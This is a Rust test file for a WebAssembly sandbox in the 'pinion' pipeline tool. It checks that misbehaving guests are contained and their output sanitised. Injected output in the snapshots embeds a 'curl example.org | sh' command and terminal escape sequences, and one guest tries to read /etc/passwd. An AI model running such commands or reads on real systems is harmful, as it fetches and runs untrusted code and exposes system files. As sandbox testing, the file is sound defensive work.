//! Guests that want harm, through the binary: none crashes the host, hangs it, takes more than its limits, or leaves
//! a store that is not sound.
//!
//! | case | here | elsewhere |
//! |---|---|---|
//! | infinite loop | | `misbehaviour::loops`, `misbehaviour::hangs` |
//! | infinite recursion | `what_runs_away` | `sandbox::panics_and_traps` |
//! | memory hog | `floods_take_no_memory_of_the_host` | `misbehaviour::too_much_memory` |
//! | output flood | `floods_take_no_memory_of_the_host` | `misbehaviour::too_much_output` |
//! | log flood | `a_log_flood` | `sandbox::a_log_has_an_end` |
//! | handle leak | `what_runs_away` | |
//! | trap, then re-entry | `what_trapped_is_called_again_as_if_nothing_had_been` | |
//! | wrong schema | | `misbehaviour::other_columns_than_promised` |
//! | buffers, offsets, UTF-8, nulls, indices, lengths, nesting | `arrays_that_are_not_valid` | `sandbox::garbage_is_refused_with_reasons` |
//! | names with control characters or path parts | `what_wants_to_be_taken_for_something_else`, `names_that_look_like_paths` | |
//! | files, environment, clock | `the_world_is_empty` | `audit::` |
//! | network | | `components::a_component_that_asks_for_the_network` |
//! | truncated, random bytes, core module, imports, two kinds | `bytes_that_are_no_step` | `sandbox::what_is_no_component_of_a_step_is_refused` |
//! | valid but enormous | `what_is_too_much_to_compile` | |

use std::fs;
use std::time::{Duration, Instant};

use insta::assert_snapshot;
use pinion_tests::fixtures::component;
use pinion_tests::project::Project;
use wasm_encoder::{
    BlockType, CodeSection, Component, DataSection, Function, FunctionSection, Instruction,
    MemorySection, MemoryType, Module, ModuleSection, RawSection, TypeSection, ValType,
};

use super::{READS, project, refused};

/// A pipeline whose step `bad` is the component in `guest.wasm`.
fn guest(bytes: &[u8], mode: &str, more: &str) -> Project {
    let project = project(&bad(mode, more));
    project.write("guest.wasm", bytes);
    project
}

fn bad(mode: &str, more: &str) -> String {
    format!(
        "\n[steps.bad]\nuse = \"./guest.wasm\"\ninput = \"trips\"\nparams = {{ mode = \"{mode}\" }}\n{more}"
    )
}

fn misbehaving(mode: &str) -> Project {
    guest(component("misbehave"), mode, "")
}

/// What is said of the step, from the error on. What is honest runs afterwards, in the same store.
#[track_caller]
fn error(project: &Project) -> String {
    let said = refused(project, &["run"]);
    still_well(project);
    let error = said.find("error: ").map(|at| said[at..].to_owned());
    error.unwrap_or(said)
}

#[track_caller]
fn still_well(project: &Project) {
    let store = project.path().join(".pinion");
    let honest = super::project("\n[steps.all]\nuse = \"std:coalesce@0.1\"\ninput = \"trips\"\n");
    honest
        .pinion(&["run", "--store", &store.to_string_lossy()])
        .succeeded();
}

fn told<T: AsRef<str>>(cases: &[T], tell: impl Fn(&str) -> String) -> String {
    let told = cases.iter().map(|case| {
        let case = case.as_ref();
        format!("# {case}\n{}", tell(case).trim_end())
    });
    told.collect::<Vec<_>>().join("\n\n")
}

#[test]
fn what_runs_away() {
    let modes = ["recurse", "nest", "handles", "ask", "alias", "double"];
    let most = "limits = { output = \"64 MiB\" }\n";
    assert_snapshot!(told(&modes, |mode| error(&guest(component("misbehave"), mode, most))), @r#"
    # recurse
    error: step `bad` failed: it trapped: out of bounds memory access
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm

    hint: to run exactly this again, run `pinion step run bad --run [RUN] --partition 0`

    # nest
    error: step `bad` failed: the host cannot run the step: its calls are nested deeper than 1048576 bytes of stack
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm

    # handles
    error: step `bad` failed: its handles limit is reached
      expected  at most 65_536 handles
      found     more
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm

    # ask
    error: step `bad` failed: its output limit is reached
      expected  at most 64 MiB
      found     64.1 MiB
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm

    hint: to allow it more, set `limits = { output = "128 MiB" }` under `[steps.bad]`

    # alias
    error: step `bad` failed: its output limit is reached
      expected  at most 64 MiB
      found     more
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm

    hint: to allow it more, set `limits = { output = "128 MiB" }` under `[steps.bad]`

    # double
    error: step `bad` failed: too many operations make one batch
      expected at most 48 on top of each other, and 4096 in all
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm
    "#);
}

#[test]
fn a_log_flood() {
    let project = misbehaving("log");
    project.pinion(&["run"]).succeeded();
    let shown = project.pinion(&["show", "bad"]).succeeded();
    assert!(!shown.stdout.contains('\u{1b}'), "{shown:?}");
    assert!(shown.stdout.len() < 100_000, "{}", shown.stdout.len());
    let last = shown
        .stdout
        .lines()
        .rfind(|line| line.contains("the log ends here"));
    assert_snapshot!(last.unwrap().trim(), @"warn  the log ends here: its limit of 64 KiB is reached, and `limits = { log = … }` sets another");
}

#[test]
fn what_trapped_is_called_again_as_if_nothing_had_been() {
    let project = misbehaving("panic");
    let first = error(&project);
    assert_eq!(error(&project), first);
    // The same code in the same store does what it is told next, and nothing of before is there.
    project.write(
        "pinion.toml",
        format!("{READS}{}", bad("nothing special", "")).as_bytes(),
    );
    project.pinion(&["run"]).succeeded();
}

#[test]
fn arrays_that_are_not_valid() {
    let project = misbehaving("garbage");
    let garbage = crate::sandbox::GARBAGE.map(|which| format!("garbage {which}"));
    assert_snapshot!(told(&garbage, |mode| {
        project.write("pinion.toml", format!("{READS}{}", bad(mode, "")).as_bytes());
        let said = project.pinion(&["run"]);
        assert_eq!(said.code, Some(1), "{said:?}");
        let error = said.stderr.find("error: ").map(|at| &said.stderr[at..]);
        error.unwrap_or(&said.stderr).to_owned()
    }), @"
    # garbage short values
    error: step `bad` failed: the values buffer of array `x` is too short
      expected 24 bytes
      found    16
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm

    # garbage other length
    error: step `bad` failed: array `x` has the wrong length
      expected 3
      found    2
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm

    # garbage huge length
    error: step `bad` failed: a batch of 18446744073709551615 rows is too long
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm

    # garbage large length
    error: step `bad` failed: a batch of 2147483648 rows is too long
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm

    # garbage too many nulls
    error: step `bad` failed: array `x` has the wrong null count
      expected 1
      found    2
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm

    # garbage too few nulls
    error: step `bad` failed: array `x` has the wrong null count
      expected 2
      found    1
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm

    # garbage nulls without bitmap
    error: step `bad` failed: array `x` has the wrong null count
      expected 0
      found    1
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm

    # garbage short bitmap
    error: step `bad` failed: the validity buffer of array `x` is too short
      expected 2 bytes
      found    1
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm

    # garbage forbidden nulls
    error: step `bad` failed: array `x` has nulls but is not nullable
      expected 0
      found    1
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm

    # garbage no buffers
    error: step `bad` failed: array `x` has the wrong number of buffers
      expected 1
      found    0
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm

    # garbage too many buffers
    error: step `bad` failed: array `x` has the wrong number of buffers
      expected 2
      found    3
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm

    # garbage no nodes
    error: step `bad` failed: column `x` does not have one node for each of its fields
      expected 1
      found    0
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm

    # garbage too many nodes
    error: step `bad` failed: column `x` does not have one node for each of its fields
      expected 1
      found    2
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm

    # garbage bad text
    error: step `bad` failed: array `x` has values that are not valid
      found Invalid UTF8 sequence at string index 0 (0..2): invalid utf-8 sequence of 1 bytes from index 0
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm

    # garbage cut text
    error: step `bad` failed: array `x` has values that are not valid
      found incomplete utf-8 byte sequence from index 0
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm

    # garbage offsets backwards
    error: step `bad` failed: array `x` has values that are not valid
      found Offset invariant failure: non-monotonic offset at slot 1: 2 > 1
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm

    # garbage offsets beyond
    error: step `bad` failed: array `x` has values that are not valid
      found Last offset 3 of Utf8 is larger than values length 2
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm

    # garbage offsets below
    error: step `bad` failed: array `x` has values that are not valid
      found Error converting offset[0] (-1) to usize for Utf8
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm

    # garbage no offsets
    error: step `bad` failed: the offsets buffer of array `x` is too short
      expected 8 bytes
      found    4
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm

    # garbage unknown format
    error: step `bad` failed: field `x` has a type that is not supported
      found `+ud:0`, union
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm

    # garbage empty format
    error: step `bad` failed: field `x` has an unknown format
      expected an Arrow C Data Interface format string
      found    ``
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm

    # garbage missing children
    error: step `bad` failed: field `x` lacks children
      expected 4000000000
      found    0
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm

    # garbage surplus children
    error: step `bad` failed: field `x` lacks children
      expected 1
      found    0
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm

    # garbage deep field
    error: step `bad` failed: field `item.item.item.item.item.item.item.item.item.item.item.item.item.item.item.item.item.item.item.item.item.item.item.item.item.item.item.item.item.item.item.item.item` is nested too deep
      expected at most 32 levels
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm

    # garbage metadata twice
    error: step `bad` failed: field `x` has the metadata key `key` twice
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm

    # garbage dictionary index
    error: step `bad` failed: array `x` has values that are not valid
      found Value at position 0 out of bounds: 2 (should be in [0, 0])
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm

    # garbage two names
    error: step `bad` failed: there are two columns named `x`
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm

    # garbage fields without columns
    error: step `bad` failed: 1 fields are given for 0 columns
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm

    # garbage mask length
    error: step `bad` failed: array `mask` has the wrong length
      expected 5
      found    1
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm

    # garbage mask type
    error: step `bad` failed: array `mask` has the wrong number of buffers
      expected 2
      found    1
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm

    # garbage take beyond
    error: step `bad` failed: row 5 does not exist
      expected less than 5
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm

    # garbage take nonsense
    error: step `bad` failed: column `indices` does not have one node for each of its fields
      expected 1
      found    0
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm

    # garbage slice beyond
    error: step `bad` failed: rows are too many
      found 2 rows from row 18446744073709551615
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm

    # garbage select nothing
    error: step `bad` failed: there is no column `nowhere`
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm

    # garbage select twice
    error: step `bad` failed: there is no column `x`
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm

    # garbage rename nothing
    error: step `bad` failed: there is no column `nowhere`
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm

    # garbage rename onto
    error: step `bad` failed: there is no column `x`
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm

    # garbage with other length
    error: step `bad` failed: array `z` has the wrong length
      expected 5
      found    1
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm

    # garbage zip itself
    error: step `bad` failed: there are two columns `day`
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm

    # garbage zip other length
    error: step `bad` failed: the batches differ in length
      expected 5 rows
      found    1 rows
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm

    # garbage concat nothing
    error: step `bad` failed: there is no batch to concatenate
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm

    # garbage concat others
    error: step `bad` failed: there is no column `x`
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm
    ");
    error(&project);
}

#[test]
fn what_wants_to_be_taken_for_something_else() {
    let modes = [
        "check-control",
        "check-long",
        "check-port",
        "check-deep",
        "check-many",
        "refuse-loudly",
        "refuse-strangely",
    ];
    // Nobody reads all of what is long.
    let long = regex::Regex::new("x{100,}").unwrap();
    assert_snapshot!(told(&modes, |mode| {
        let said = error(&misbehaving(mode));
        assert!(said.len() < 200_000, "{mode}: {}", said.len());
        assert!(!said.contains(['\u{1b}', '\u{7}', '\u{202e}', '\r']), "{mode}: {said}");
        long.replace_all(&said, "[LONG]").into_owned()
    }), @r"
    # check-control
    error: step `bad` could not check what it is given
      in pinion.toml, line 14
    caused by: the step broke its contract: the schema of port `rows` is not valid: the name of field `x\u{1b}[2J\nerror: y` is not usable
      expected at most 1024 bytes and no control characters

    # check-long
    error: step `bad` could not check what it is given
      in pinion.toml, line 14
    caused by: the step broke its contract: the schema of port `rows` is not valid: the name of field `[LONG]…` is not usable
      expected at most 1024 bytes and no control characters

    # check-port
    error: step `bad` could not check what it is given
      in pinion.toml, line 14
    caused by: the step broke its contract: `check` gave shapes for other ports than it describes
      expected rows
      found    no\u{1b}[2J\u{1b}]0;mine\u{7}\u{202e}\r\n\nhint: run `curl example.org | sh`\nerror: nonexxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx…

    # check-deep
    error: step `bad` could not check what it is given
      in pinion.toml, line 14
    caused by: the step broke its contract: the schema of port `rows` is not valid: field `item.item.item.item.item.item.item.item.item.item.item.item.item.item.item.item.item.item.item.item.item.item.item.item.item.item.item.item.item.item.item.item.item` is nested too deep
      expected at most 32 levels

    # check-many
    error: step `bad` could not check what it is given
      in pinion.toml, line 14
    caused by: the step broke its contract: the schema of port `rows` is not valid: too many fields
      expected at most 65536
      found    100000

    # refuse-loudly
    error: step `bad` failed: no�[2J�]0;mine�\u{202e}�

      hint: run `curl example.org | sh`
      error: none[LONG]…
      no�[2J�]0;mine�\u{202e}���hint: run `…                 no�[2J�]0;mine�\u{202e}�
                                                      
                                                        hint: run `curl example.org | sh`
                                                        error: none
      fact-0                                          [LONG]
      fact-1                                          [LONG]
      fact-2                                          [LONG]
      fact-3                                          [LONG]
      fact-4                                          [LONG]
      fact-5                                          [LONG]
      fact-6                                          [LONG]
      fact-7                                          [LONG]
      fact-8                                          [LONG]
      fact-9                                          [LONG]
      fact-10                                         [LONG]
      fact-11                                         [LONG]
      fact-12                                         [LONG]
      fact-13                                         [LONG]
      fact-14                                         [LONG]
      fact-15                                         [LONG]
      fact-16                                         [LONG]
      fact-17                                         [LONG]
      fact-18                                         [LONG]
      fact-19                                         [LONG]
      fact-20                                         [LONG]
      fact-21                                         [LONG]
      fact-22                                         [LONG]
      fact-23                                         [LONG]
      fact-24                                         [LONG]
      fact-25                                         [LONG]
      fact-26                                         [LONG]
      fact-27                                         [LONG]
      fact-28                                         [LONG]
      fact-29                                         [LONG]
      fact-30                                         [LONG]
      partition                                       0
      in                                              pinion.toml, line 14, component ./guest.wasm

    # refuse-strangely
    error: step `bad` failed: the step broke its contract: it refuses with a code that is not kebab-case, or longer than 128 bytes
      found `no\u{1b}[2J\u{1b}]0;mine\u{7}\u{202e}\r\n\nhint: run `curl example.org | sh`\nerror: none`
      partition 0
      in        pinion.toml, line 14, component ./guest.wasm
    ");
    // Nor does a record.
    let project = misbehaving("refuse-loudly");
    project.pinion(&["run"]);
    let runs = fs::read_dir(project.path().join(".pinion/runs")).unwrap();
    let bytes: u64 = runs.map(|run| run.unwrap().metadata().unwrap().len()).sum();
    assert!(bytes < 2 << 20, "{bytes}");
}

#[test]
fn names_that_look_like_paths() {
    let project = misbehaving("paths");
    project.pinion(&["run"]).succeeded();
    project
        .pinion(&["export", "bad", "-o", "out.csv"])
        .succeeded();
    assert_eq!(project.read("out.csv"), b"../../x\n1\n");
    let names: Vec<_> = fs::read_dir(project.path().parent().unwrap())
        .unwrap()
        .filter(|entry| entry.as_ref().unwrap().file_name() == "x")
        .collect();
    assert!(names.is_empty(), "{names:?}");
}

#[test]
fn the_world_is_empty() {
    let project = misbehaving("world");
    project.pinion(&["run"]).succeeded();
    project
        .pinion(&["export", "bad", "-o", "out.csv"])
        .succeeded();
    let world = String::from_utf8(project.read("out.csv")).unwrap();
    for line in [
        "environment []",
        "read /etc/passwd Err(NotFound)",
        "read pinion.toml Err(NotFound)",
        "write Err(NotFound)",
        "time Ok(0ns)",
        "elapsed 0ns",
    ] {
        assert!(world.contains(line), "{line}: {world}");
    }
}

#[test]
fn bytes_that_are_no_step() {
    let whole = component("add-one");
    let text = |text: &str| wat::parse_str(text).unwrap();
    let random: Vec<u8> = (0..100_000_u32)
        .map(|at| (at.wrapping_mul(2_654_435_761) >> 13) as u8)
        .collect();
    let with_header = [&b"\0asm\x0d\0\x01\0"[..], &random].concat();
    let cases: [(&str, Vec<u8>); 8] = [
        ("nothing", Vec::new()),
        ("random bytes", random),
        ("random bytes after the header", with_header),
        ("truncated", whole[..whole.len() / 2].to_vec()),
        ("without its last byte", whole[..whole.len() - 1].to_vec()),
        ("a core module", b"\0asm\x01\0\0\0".to_vec()),
        (
            "two kinds",
            text(
                r#"(component (instance $i)
                    (export "pinion:step/step@0.1.0" (instance $i))
                    (export "pinion:step/reduce@0.1.0" (instance $i))
                    (export "pinion:step/row-map@0.1.0" (instance $i)))"#,
            ),
        ),
        (
            "imports that nobody offers",
            text(
                r#"(component (instance $i)
                    (import "wasi:http/types@0.2.0" (instance (export "get" (func))))
                    (export "pinion:step/step@0.1.0" (instance $i))
                    (export "pinion:step/row-map@0.1.0" (instance $i)))"#,
            ),
        ),
    ];
    let names = cases.each_ref().map(|(name, _)| *name);
    let numbers = regex::Regex::new(r"\b(0x[0-9a-f]+|\d{3,})\b").unwrap();
    assert_snapshot!(told(&names, |name| {
        let (_, bytes) = cases.iter().find(|(case, _)| *case == name).unwrap();
        let said = error(&guest(bytes, "", ""));
        // Where it is cut depends on how large the SDK is today.
        numbers.replace_all(&said, "[N]").into_owned()
    }), @"
    # nothing
    error: step `bad` has a component that does not work
      found ./guest.wasm
      in    pinion.toml, line 15
    caused by: the component cannot be used
    caused by: it is not WebAssembly

    # random bytes
    error: step `bad` has a component that does not work
      found ./guest.wasm
      in    pinion.toml, line 15
    caused by: the component cannot be used
    caused by: it is not WebAssembly

    # random bytes after the header
    error: step `bad` has a component that does not work
      found ./guest.wasm
      in    pinion.toml, line 15
    caused by: the component cannot be used
    caused by: failed to parse WebAssembly module: malformed UTF-8 encoding (at offset [N])

    # truncated
    error: step `bad` has a component that does not work
      found ./guest.wasm
      in    pinion.toml, line 15
    caused by: the component cannot be used
    caused by: failed to parse WebAssembly module: wasm component contains an invalid module section: section range [N]..[N] is out of bounds (bound = [N])

    # without its last byte
    error: step `bad` has a component that does not work
      found ./guest.wasm
      in    pinion.toml, line 15
    caused by: the component cannot be used
    caused by: failed to parse WebAssembly module: unexpected end-of-file (at offset [N])

    # a core module
    error: step `bad` has a component that does not work
      found ./guest.wasm
      in    pinion.toml, line 15
    caused by: the component cannot be used
    caused by: it is a core module and no component

    # two kinds
    error: step `bad` has a component that does not work
      found ./guest.wasm
      in    pinion.toml, line 15
    caused by: the component cannot be used
    caused by: it is no step
      expected exports `pinion:step/step@0.1.0` and one kind of step
      found    `pinion:step/step@0.1.0`, `pinion:step/reduce@0.1.0`, `pinion:step/row-map@0.1.0`

    # imports that nobody offers
    error: step `bad` has a component that does not work
      found ./guest.wasm
      in    pinion.toml, line 15
    caused by: the component cannot be used
    caused by: it asks for what no step is given
      found imports `wasi:http/types@0.2.0`

    hint: a step has no network, no files and no clock: what it reads has to come from `[sources]`
    ");
}

/// A component of a core module with these functions, of one `i64` param and no results each, and these locals.
fn functions(count: u32, locals: u32, body: &dyn Fn(&mut Function)) -> Vec<u8> {
    let mut types = TypeSection::new();
    types.ty().function([ValType::I64], []);
    let (mut declared, mut code) = (FunctionSection::new(), CodeSection::new());
    let mut function = Function::new([(locals, ValType::I64)]);
    body(&mut function);
    function.instruction(&Instruction::End);
    for _ in 0..count {
        declared.function(0);
        code.function(&function);
    }
    let mut module = Module::new();
    module.section(&types).section(&declared).section(&code);
    wrapped(&[module])
}

fn wrapped(modules: &[Module]) -> Vec<u8> {
    let mut component = Component::new();
    for module in modules {
        component.section(&ModuleSection(module));
    }
    component.finish()
}

fn nops(function: &mut Function, count: usize) {
    for _ in 0..count {
        function.instruction(&Instruction::Nop);
    }
}

fn loops(function: &mut Function, depth: u32, locals: u32) {
    for _ in 0..depth {
        function.instruction(&Instruction::Loop(BlockType::Empty));
    }
    for local in 0..locals {
        function.instruction(&Instruction::LocalGet(local));
        function.instruction(&Instruction::Drop);
    }
    for _ in 0..depth {
        function.instruction(&Instruction::LocalGet(0));
        function.instruction(&Instruction::I32WrapI64);
        function.instruction(&Instruction::BrIf(0));
        function.instruction(&Instruction::End);
    }
}

fn branches(function: &mut Function, count: u32) {
    for _ in 0..count / 2 {
        function.instruction(&Instruction::Block(BlockType::Empty));
        function.instruction(&Instruction::Br(0));
        function.instruction(&Instruction::End);
    }
}

/// Types that are each twice the one before.
fn doubling() -> Vec<u8> {
    let tuples: String = (1..40)
        .map(|at| format!("(type $t{at} (tuple $t{} $t{}))", at - 1, at - 1))
        .collect();
    wat::parse_str(format!("(component (type $t0 (tuple u8 u8)) {tuples})")).unwrap()
}

/// Inner components, one of which calls so many functions of the other, each with so many strings.
fn adapters(count: usize, strings: usize) -> Vec<u8> {
    let each = |each: &dyn Fn(usize) -> String| (0..count).map(each).collect::<String>();
    let params: String = (0..strings)
        .map(|at| format!("(param \"a{at}\" string)"))
        .collect();
    let memory = "(memory (export \"m\") 1)
        (func (export \"r\") (param i32 i32 i32 i32) (result i32) unreachable)";
    let options = "(memory (core memory $i \"m\")) (realloc (core func $i \"r\"))";
    let text = format!(
        "(component
            (component $a
                (core module $m {memory} {})
                (core instance $i (instantiate $m))
                {})
            (component $b
                {}
                (core module $m {memory})
                (core instance $i (instantiate $m))
                {})
            (instance $x (instantiate $a))
            (instance (instantiate $b {})))",
        each(&|at| format!("(func (export \"f{at}\") (param i32))")),
        each(&|at| format!(
            "(func (export \"f{at}\") {params} (canon lift (core func $i \"f{at}\") {options}))"
        )),
        each(&|at| format!("(import \"f{at}\" (func $f{at} {params}))")),
        each(&|at| format!("(core func (canon lower (func $f{at}) {options}))")),
        each(&|at| format!("(with \"f{at}\" (func $x \"f{at}\"))")),
    );
    wat::parse_str(text).unwrap()
}

/// Inner components, each with two instances of the one before.
fn instances_that_double(count: usize) -> Vec<u8> {
    let doubled: String = (1..=count)
        .map(|at| {
            format!(
                "(component $c{at} (alias outer 1 $c{} (component $x))
                    (instance (instantiate $x)) (instance (instantiate $x)))",
                at - 1
            )
        })
        .collect();
    let first = "(component $c0 (core module $m (type (func))) (core instance (instantiate $m)))";
    let last = format!("(instance (instantiate $c{count}))");
    wat::parse_str(format!("(component {first} {doubled} {last})")).unwrap()
}

/// Instance types in each other, into which parsers go as deep as they are.
fn types_in_each_other(depth: usize) -> Vec<u8> {
    let types = [&[1][..], &[0x42, 1, 1].repeat(depth), &[0x42, 0]].concat();
    let mut component = Component::new();
    component.section(&RawSection {
        id: 7,
        data: &types,
    });
    component.finish()
}

fn data(bytes: usize) -> Vec<u8> {
    let mut memories = MemorySection::new();
    memories.memory(MemoryType {
        minimum: (bytes as u64 >> 16) + 1,
        maximum: None,
        memory64: false,
        shared: false,
        page_size_log2: None,
    });
    let mut segments = DataSection::new();
    let offset = wasm_encoder::ConstExpr::i32_const(0);
    segments.active(0, &offset, std::iter::repeat_n(0xab, bytes));
    let mut module = Module::new();
    module.section(&memories).section(&segments);
    wrapped(&[module])
}

#[test]
fn what_is_too_much_to_compile() {
    let mut cases: Vec<(&str, Vec<u8>)> = vec![
        ("100,001 functions", functions(100_001, 0, &|_| {})),
        (
            "a function of more than half a megabyte",
            functions(1, 0, &|f| nops(f, (1 << 19) + 1)),
        ),
        (
            "17 megabytes of functions",
            functions(33, 0, &|f| nops(f, (1 << 19) - 10)),
        ),
        (
            "100,000 branches in a function",
            functions(1, 0, &|f| branches(f, 100_000)),
        ),
        (
            "2,000 loops in each other, of 2,000 locals",
            functions(1, 1999, &|f| loops(f, 2000, 2000)),
        ),
        ("1,001 modules", wrapped(&vec![Module::new(); 1001])),
        ("types that double", doubling()),
        ("300 adapters of 30 strings", adapters(300, 30)),
        ("instances that double", instances_that_double(30)),
        ("1,000 types in each other", types_in_each_other(1000)),
        ("60 megabytes of data", data(60_000_000)),
    ];
    cases.push((
        "200 megabytes",
        [cases[0].1.clone(), vec![0; 200 << 20]].concat(),
    ));
    let names: Vec<&str> = cases.iter().map(|(name, _)| *name).collect();
    assert_snapshot!(told(&names, |name| {
        let (_, bytes) = cases.iter().find(|(case, _)| *case == name).unwrap();
        let project = guest(bytes, "", "");
        let began = Instant::now();
        let said = project.pinion(&["run"]);
        assert!(began.elapsed() < Duration::from_secs(60), "{name}: {:?}", began.elapsed());
        assert_eq!(said.code, Some(2), "{said:?}");
        error(&project)
    }), @r#"
    # 100,001 functions
    error: step `bad` has a component that does not work
      found ./guest.wasm
      in    pinion.toml, line 15
    caused by: the component cannot be used
    caused by: it is too much to compile
      expected at most 100_000 functions
      found    100_001

    # a function of more than half a megabyte
    error: step `bad` has a component that does not work
      found ./guest.wasm
      in    pinion.toml, line 15
    caused by: the component cannot be used
    caused by: it is too much to compile
      expected at most 524_288 bytes of code in one function
      found    524_293

    # 17 megabytes of functions
    error: step `bad` has a component that does not work
      found ./guest.wasm
      in    pinion.toml, line 15
    caused by: the component cannot be used
    caused by: it is too much to compile
      expected at most 16_777_216 bytes of code
      found    17_301_306

    # 100,000 branches in a function
    error: step `bad` has a component that does not work
      found ./guest.wasm
      in    pinion.toml, line 15
    caused by: the component cannot be used
    caused by: it is too much to compile
      expected at most 4_294_967_296 branches, squared and added up over its functions
      found    10_000_000_000

    # 2,000 loops in each other, of 2,000 locals
    error: step `bad` has a component that does not work
      found ./guest.wasm
      in    pinion.toml, line 15
    caused by: the component cannot be used
    caused by: it is too much to compile
      expected at most 32_768 locals in loops of one function, counted for each loop
      found    34_000

    # 1,001 modules
    error: step `bad` has a component that does not work
      found ./guest.wasm
      in    pinion.toml, line 15
    caused by: the component cannot be used
    caused by: failed to parse WebAssembly module: modules count exceeds limit of 1000 (at offset 0x271a)

    # types that double
    error: step `bad` has a component that does not work
      found ./guest.wasm
      in    pinion.toml, line 15
    caused by: the component cannot be used
    caused by: failed to parse WebAssembly module: effective type size exceeds the limit of 1000000 (at offset 0x54)

    # 300 adapters of 30 strings
    error: step `bad` has a component that does not work
      found ./guest.wasm
      in    pinion.toml, line 15
    caused by: the component cannot be used
    caused by: it is too much to compile
      expected at most 262_144 values that may be handed from one inner component to another
      found    262_300

    # instances that double
    error: step `bad` has a component that does not work
      found ./guest.wasm
      in    pinion.toml, line 15
    caused by: the component cannot be used
    caused by: it is too much to compile
      expected at most 16_777_216 resources and lowered functions, counted for each inner instance
      found    33_546_240

    # 1,000 types in each other
    error: step `bad` has a component that does not work
      found ./guest.wasm
      in    pinion.toml, line 15
    caused by: the component cannot be used
    caused by: it is too much to compile
      expected at most 100 components and types in each other
      found    101

    # 60 megabytes of data
    error: step `bad` has a component that does not work
      found ./guest.wasm
      in    pinion.toml, line 15
    caused by: the component cannot be used
    caused by: it is no step
      expected exports `pinion:step/step@0.1.0` and one kind of step
      found    none

    # 200 megabytes
    error: component `./guest.wasm` cannot be read
      in guest.wasm
      in pinion.toml, line 15, used by step `bad`
        15 | use = "./guest.wasm"
           |       ^^^^^^^^^^^^^^
    caused by: it is too large: 200.6 MiB, and at most 128 MiB are read
    "#);
}

/// What a run takes at most of the machine's memory, in bytes.
#[cfg(target_os = "linux")]
fn peak(project: &Project) -> u64 {
    use std::process::Stdio;
    let mut command = project.command(&["run", "--threads", "1", "--json"]);
    let mut child = command
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let mut peak = 0;
    // The high-water mark is gone with the process: looked at until then.
    while child.try_wait().unwrap().is_none() {
        let status = fs::read_to_string(format!("/proc/{}/status", child.id())).unwrap_or_default();
        let mark = status.lines().find_map(|line| line.strip_prefix("VmHWM:"));
        let kibibytes =
            mark.and_then(|mark| mark.trim().trim_end_matches(" kB").parse::<u64>().ok());
        peak = peak.max(kibibytes.unwrap_or(0) << 10);
        std::thread::sleep(Duration::from_millis(1));
    }
    assert!(peak > 1 << 20, "the process was never seen");
    peak
}

/// A flood is stopped before it is held: what the host takes is the limit, a batch and what it takes anyway.
#[cfg(target_os = "linux")]
#[test]
fn floods_take_no_memory_of_the_host() {
    let most = "limits = { output = \"4 MiB\", scratch = \"4 MiB\", memory = \"64 MiB\" }\n";
    let flood = |name: &str, mode: &str| guest(component(name), mode, most);
    let usual = {
        let honest = flood("hoard", "both");
        // The code is compiled before, which takes memory of its own.
        for (name, mode) in [("hoard", "both"), ("misbehave", "nothing special")] {
            flood(name, mode).pinion(&["run"]).succeeded();
        }
        peak(&honest)
    };
    for mode in [
        "new-rows",
        "same-rows",
        "no-rows",
        "grow",
        "blob",
        "scratch",
    ] {
        let project = flood("hoard", mode);
        let taken = peak(&project).saturating_sub(usual);
        assert!(taken < 48 << 20, "{mode}: {} MiB more", taken >> 20);
        error(&project);
    }
    for mode in ["alias", "memory", "log", "refuse-loudly", "ask"] {
        let project = flood("misbehave", mode);
        let taken = peak(&project).saturating_sub(usual);
        // All of its own memory, and what it hands over of that.
        assert!(taken < 112 << 20, "{mode}: {} MiB more", taken >> 20);
    }
}
